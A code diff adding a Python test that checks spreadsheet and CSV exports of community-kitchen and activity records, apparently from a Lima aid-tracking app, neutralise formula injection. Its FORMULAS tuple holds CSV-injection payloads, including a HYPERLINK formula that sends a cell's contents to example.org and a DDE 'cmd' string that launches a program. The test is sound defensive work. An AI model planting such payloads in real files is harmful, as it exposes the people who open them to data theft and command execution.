@@ -115,6 +115,44 @@ def test_the_hxl_3w_export_lists_each_activity_by_ubigeo_as_of_a_moment(client: 
     assert [r.get("#activity+code") for r in hxl.data(io.BytesIO(then.content), hxl.InputOptions(allow_local=True))] == ["act-1"]
 
 
+FORMULAS = ('=HYPERLINK("http://example.org/x?"&A1,"Ver informe")', "@SUM(1+9)*cmd|' /C calc'!A0 Olla Común", "+51 Vecinos", "-Junta")
+"""Names typed in the field or by a lead that a spreadsheet would take for formulas (OWASP's CSV injection)."""
+
+
+def test_names_that_look_like_formulas_reach_every_export_as_text_never_as_a_formula(client: TestClient) -> None:
+    """A promoter's OSV names and a lead's phase name, as hostile as a form lets them be, opened by a donor in Excel."""
+    events = [cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name=FORMULAS[0],
+                         starts_on="2021-01-01", ends_on="2021-06-30", occurred_on="2021-01-01")]
+    for n, name in enumerate(FORMULAS, start=1):
+        osv = f"osv-{n}"
+        events.append(cloudevent("registry", n, "OSVMapped", osv, at(n), osv_id=osv, name=name, district="San Juan de Lurigancho",
+                                 zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"))
+        reported = activity(f"act-{n}", n, 10 + n, "2021-03-01", ve_f=n)
+        events.append({**reported, "data": {**reported["data"], "osv_id": osv}})
+    application_of(client).readmodel.apply(events)
+
+    workbook = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx").content))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert FORMULAS[0] in [c.value for c in cells if c.data_type == "s"]  # the phase's name as typed, as text
+
+    indicators = list(csv.reader(io.StringIO(client.get("/indicators/export.csv").content.decode("utf-8-sig"))))
+    assert {row[0] for row in indicators[1:]} == {"'" + FORMULAS[0], "Total"}
+    hxl_sheet = list(csv.reader(io.StringIO(client.get("/activities/export.hxl.csv").content.decode("utf-8-sig"))))
+    names = {row[hxl_sheet[2].index("#org+name")] for row in hxl_sheet[3:]}
+    assert names == {"'" + name.replace("|", "\\|") for name in FORMULAS}
+    leading = [field for row in indicators + hxl_sheet for field in row if field and field[0] in "=+-@" and not _number(field)]
+    assert leading == []
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
 # Targets and sign-offs: the leads' own records, on SQLite and on PostgreSQL -----------------
 
 
